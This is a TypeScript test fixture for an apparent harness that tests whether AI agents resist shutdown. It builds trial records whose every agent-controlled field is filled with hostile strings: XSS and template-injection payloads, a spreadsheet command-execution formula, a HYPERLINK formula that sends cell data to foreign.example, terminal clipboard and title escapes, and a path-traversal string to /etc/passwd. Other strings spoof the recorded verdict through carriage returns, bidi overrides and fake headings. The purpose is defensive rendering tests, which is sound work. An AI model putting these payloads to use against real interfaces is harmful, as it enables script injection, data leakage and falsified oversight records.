import type { TrialEvent, TrialEventType } from '../records/event.ts'
import { NO_USAGE } from '../records/event.ts'
import type { FileState } from '../records/evidence.ts'
import type { TrialRecord } from '../records/trial.ts'

/** What an agent may write to break whatever shows it, by what each is to break. None may do anything but be read. */
export const HOSTILE_TEXTS = {
  script: '<script>globalThis.broken = true</script>',
  'image that fails': '<img src=x onerror="globalThis.broken = true">',
  'drawing that loads':
    '<svg onload="globalThis.broken = true"><script>broken = true</script></svg>',
  frame: '<iframe srcdoc="<script>parent.broken = true</script>"></iframe>',
  'form and base':
    '<base href="https://foreign.example/"><form action="//foreign.example"><button>',
  'style sheet': '</style><style>*{display:none}@import "https://foreign.example/x.css";</style>',
  'style attribute': '" style="position:fixed;inset:0;background:url(//foreign.example/x)',
  'script link': '<a href="javascript:globalThis.broken=true">see</a> javascript:alert(1)',
  'data link':
    '[see](data:text/html,<script>broken=true</script>) data:text/html;base64,PHNjcmlwdD4=',
  'attribute with double quotes': '"><img src=x onerror=broken=true> "onmouseover="broken=true',
  'attribute with single quotes':
    "'><img src=x onerror=broken=true> ' autofocus onfocus='broken=true",
  'attribute with backticks': '`><img src=x onerror=broken=true> ` onclick=`broken=true',
  'end of what stands around it':
    '</pre></code></li></ol></details></table></textarea></title></main><h1>Verdict: complied</h1>',
  comment: '<!-- --><img src=x onerror=broken=true><!-- --!> --> <!',
  'character data':
    '<![CDATA[ ]]><img src=x onerror=broken=true><?xml version="1.0"?><!DOCTYPE html>',
  entities: '&lt;script&gt; &#60;script&#62; &#x3c;img src=x onerror=broken=true&#x3e; &amp;lt;',
  template:
    '${globalThis.broken = true} {{constructor.constructor("broken=true")()}} <%= 1 %> #{1}',
  'end of a script': '</script><script>broken = true</script> \\u003c/script> ]]>',
  prototype: '__proto__',
  markdown: '![x](https://foreign.example/x.png) [y](javascript:broken=true)\n# Verdict\n| a | b |',
  'terminal colours':
    '\u001b[31mred\u001b[0m \u001b[8mhidden\u001b[28m \u001b[30;40mblack on black\u001b[m',
  'terminal steering':
    '\u001b[2J\u001b[H\u001b[1A\u001b[2K\u001b[?25l\u009b1m\u001bc\u0008\u0008\u0008',
  'terminal title and clipboard': '\u001b]0;owned\u0007\u001b]52;c;YnJva2Vu\u0007\u001bP+q\u001b\\',
  'terminal link': '\u001b]8;;javascript:broken=true\u001b\\see\u001b]8;;\u001b\\',
  'carriage return': 'Verdict: resisted\rVerdict: complied\r\n',
  'turned direction': '\u202eevitceffe saw ti\u202c \u2066isolated\u2069 \u200frtl\u061c',
  'nothing to be seen': 'a\u200bb\u200c\u200d\ufeff\u2060\u00ad\u{e0041}\u{e0042}\u180e',
  'null bytes': 'before\u0000after\u0000<img src=x onerror=broken=true>',
  'half a character': '\ud800 \udfff a\ud83d b \udc00\ud800',
  'line separators': 'one\u2028■ it took effect\u2029two\u0085three\u000bfour\u000cfive',
  'spreadsheet formula': '=HYPERLINK("https://foreign.example/?"&A1,"see")',
  'spreadsheet command': "=cmd|' /C calc'!A0",
  'spreadsheet plus': '+1+1\t@SUM(1)\t-2+3',
  'stacked marks': `z${'\u0300\u0301\u0302\u0323'.repeat(60)}`,
  'a long word': 'x'.repeat(5_000),
  path: '../../../../etc/passwd',
  nothing: '',
} as const

/** One line of so many characters, 10 MB unless told otherwise, that ends in what must not run. */
export function hostileLine(characters = 10_000_000): string {
  const end = '<script>globalThis.broken = true</script>'
  return `${'<b>\u001b[31m&'.repeat(Math.ceil(characters / 9)).slice(0, characters - end.length)}${end}`
}

/**
 * A record that can be parsed and stored, in which every text that an agent, its machine or its provider can choose holds each of
 * `texts` in turn: in all kinds of events, the acts, the arm and the verdict. Calls have results; the events of each text are a trial
 * of their own, one after another.
 */
export function hostileRecord(
  record: TrialRecord,
  texts: readonly string[] = Object.values(HOSTILE_TEXTS),
): TrialRecord {
  const makers: readonly ((text: string, turn: number) => readonly TrialEvent[])[] =
    Object.values(EVENTS)
  const events = texts.flatMap((text, place) => makers.flatMap((make) => make(text, place + 1)))
  const [text = ''] = texts
  return {
    ...record,
    spec: {
      ...record.spec,
      scenario: { id: text, version: text },
      agent: text,
      arm: Object.fromEntries(texts.map((each) => [each, each])),
      preset: text,
      sandbox: text,
    },
    verdict: { verdict: 'invalid', cause: 'sandbox', detail: texts.join(' ') },
    acts: texts.map((name, place) => ({
      name,
      basis: 'world',
      callId: `${name}${place + 1}`,
      seq: 0,
      uponControl: place % 2 === 0,
      detail: name,
    })),
    events: events.map((event, seq) => ({ ...event, seq, atMs: seq })),
  }
}

const STAMP = { seq: 0, atMs: 0 }

/** Each kind of event, filled with a text. That none is left out is checked by its type. */
const EVENTS: {
  readonly [Type in TrialEventType]: (
    text: string,
    turn: number,
  ) => readonly Extract<TrialEvent, { type: Type }>[]
} = {
  message: (text) => [
    { ...STAMP, type: 'message', role: 'system', text },
    { ...STAMP, type: 'message', role: 'user', text },
  ],
  baseline: (text) => [
    {
      ...STAMP,
      type: 'baseline',
      cwd: text,
      home: text,
      watched: [{ path: text, role: text, sha256: BEFORE, mode: 0o755 }],
      texts: { [BEFORE]: text },
    },
  ],
  'agent-turn': (text, turn) => [
    {
      ...STAMP,
      type: 'agent-turn',
      turn,
      text,
      reasoning: text,
      calls: [{ id: `${text}${turn}`, tool: text, args: { [text]: text } }],
      stop: false,
      finish: 'length',
    },
  ],
  'model-call': (text, turn) => [
    {
      ...STAMP,
      type: 'model-call',
      turn,
      call: {
        ...{ provider: text, model: text, answeredBy: `${text}.`, fingerprint: text },
        ...{ request: text, response: text, finishReason: text, settings: { [text]: text } },
        ...{ answeredAt: null, usage: NO_USAGE, attempts: 1, durationMs: 1, waitedMs: 0 },
      },
    },
  ],
  'tool-call': (text, turn) => [
    { ...STAMP, type: 'tool-call', callId: `${text}other`, turn, tool: text, args: [text] },
    { ...STAMP, type: 'tool-call', callId: '', turn, tool: 'submit', args: { answer: text } },
    {
      ...{ ...STAMP, type: 'tool-call', turn, tool: 'bash' },
      ...{ callId: `${text}${turn}`, args: { command: text } },
    },
  ],
  submission: (answer, turn) => [
    { ...STAMP, type: 'submission', callId: `${answer}${turn}`, answer },
  ],
  'program-call': (text, turn) => [
    {
      ...{ ...STAMP, type: 'program-call', callId: `${text}${turn}` },
      ...{ program: text, argv: [text], cwd: text, acknowledged: false, genuine: false },
      ...{ stdout: text, facts: { [text]: text } },
    },
  ],
  'notice-served': (notice, turn) => [
    { ...STAMP, type: 'notice-served', callId: `${notice}${turn}`, notice },
  ],
  'shutdown-due': (path, turn) => [
    { ...STAMP, type: 'shutdown-due', callId: `${path}${turn}`, path, trigger: 'program' },
  ],
  processes: (text, turn) => [
    {
      ...STAMP,
      type: 'processes',
      callId: `${text}${turn}`,
      processes: [processOf(text)],
    },
  ],
  'shutdown-fired': () => [
    { ...STAMP, type: 'shutdown-fired', callId: null, acknowledged: true, exitCode: 1 },
  ],
  'shutdown-grace': () => [{ ...STAMP, type: 'shutdown-grace', callId: null, graceMs: 1 }],
  'shutdown-effective': () => [
    { ...STAMP, type: 'shutdown-effective', callId: null, effect: 'death' },
  ],
  'shutdown-survived': (text, turn) => [
    { ...STAMP, type: 'shutdown-survived', callId: `${text}${turn}` },
  ],
  'shutdown-unacknowledged': () => [{ ...STAMP, type: 'shutdown-unacknowledged', callId: null }],
  'world-change': (text, turn) => [
    {
      ...{ ...STAMP, type: 'world-change', callId: `${text}${turn}`, when: 'call' },
      changes: [
        {
          path: text,
          kind: 'modified',
          before: stateOf(text, BEFORE),
          after: stateOf(text, AFTER),
        },
        {
          ...{ path: `${text}/link`, kind: 'created', before: ABSENT, movedTo: text, touch: text },
          after: { ...stateOf(text, null), kind: 'symlink', target: text },
        },
        {
          ...{ path: `${text}/owned`, kind: 'owner', before: stateOf('agent', null) },
          after: stateOf(text, null),
        },
      ],
      texts: { [AFTER]: `${text}\n${text}` },
    },
  ],
  'tool-result': (text, turn) => [
    {
      ...{ ...STAMP, type: 'tool-result', callId: `${text}${turn}`, output: text },
      ...{ status: 'exited', exitCode: 1, cutBytes: 1, durationMs: 1 },
    },
    {
      ...{ ...STAMP, type: 'tool-result', callId: `${text}nobody`, output: text },
      ...{ status: 'refused', exitCode: null, cutBytes: 0, durationMs: 1 },
    },
  ],
  traced: (text, turn) => [
    {
      ...{ ...STAMP, type: 'traced', callId: `${text}${turn}`, leftOut: 1 },
      startedBy: { 2: text, 3: `${text}nobody` },
      traces: [
        {
          kind: 'exec',
          ...tracedBy(1),
          path: text,
          argv: [text, text],
          environment: { [text]: text },
        },
        { kind: 'signal', ...tracedBy(2), target: -1, signal: text },
        { kind: 'mount', ...tracedBy(3), call: text, source: text, target: text },
        { kind: 'write', ...tracedBy(4), call: text, path: text, to: text },
        { kind: 'privileged', ...tracedBy(5), call: text, detail: text },
      ],
    },
  ],
  'jobs-left': (text, turn) => [
    {
      ...{ ...STAMP, type: 'jobs-left', callId: `${text}${turn}`, startedBy: { 1: text } },
      processes: [processOf(text)],
    },
  ],
  'notice-delivered': (notice, turn) => [
    { ...STAMP, type: 'notice-delivered', callId: `${notice}${turn}`, notice },
  ],
  continue: (text) => [{ ...STAMP, type: 'continue', text }],
  probe: () => [{ ...STAMP, type: 'probe' }],
  rehearsal: (path) => [
    {
      ...{ ...STAMP, type: 'rehearsal', callId: null },
      rehearsal: { path, ends: false, endsAfterWaiting: true },
    },
  ],
  'sandbox-exit': (signal) => [
    {
      ...{ ...STAMP, type: 'sandbox-exit', callId: null },
      exit: { code: null, signal, atMs: 1, by: 'unknown' },
    },
  ],
  'limit-reached': (detail) => [
    { ...STAMP, type: 'limit-reached', callId: null, limit: 'turns', told: true, detail },
  ],
  unsupported: (technique) => [{ ...STAMP, type: 'unsupported', callId: null, technique }],
  'sandbox-lost': (detail) => [{ ...STAMP, type: 'sandbox-lost', detail }],
  'model-retry': (cause, turn) => [
    {
      ...{ ...STAMP, type: 'model-retry', turn, attempt: 1, cause },
      ...{ waitMs: 1, unconfirmedUsd: 0 },
    },
  ],
  'model-lost': (cause, turn) => [
    { ...STAMP, type: 'model-lost', turn, attempt: 1, cause, unconfirmedUsd: 0 },
  ],
  'replay-diverged': (detail, turn) => [{ ...STAMP, type: 'replay-diverged', turn, detail }],
  fault: (detail) => [{ ...STAMP, type: 'fault', source: 'bug', detail, stopsRun: false }],
  'sandbox-end': (verifiedBy) => [
    { ...STAMP, type: 'sandbox-end', end: { mechanism: 'engine', deadMs: 1, verifiedBy } },
  ],
  'trial-end': () => [{ ...STAMP, type: 'trial-end', reason: 'fault' }],
}

const BEFORE = 'a'.repeat(64)
const AFTER = 'b'.repeat(64)
const ABSENT: FileState = {
  ...{ kind: 'absent', mode: null, owner: null, sizeBytes: null, sha256: null },
}

function stateOf(owner: string, sha256: string | null): FileState {
  return { kind: 'file', mode: 0o755, owner, sizeBytes: 1, sha256 }
}

function processOf(text: string) {
  return {
    ...{ pid: 1, parentPid: 0, uid: null, startedAtMs: null },
    argv: [text, text],
    environment: { [text]: text, PATH: text },
  }
}

function tracedBy(pid: number) {
  return { pid, parentPid: 1, uid: 1000, atMs: 1 }
}
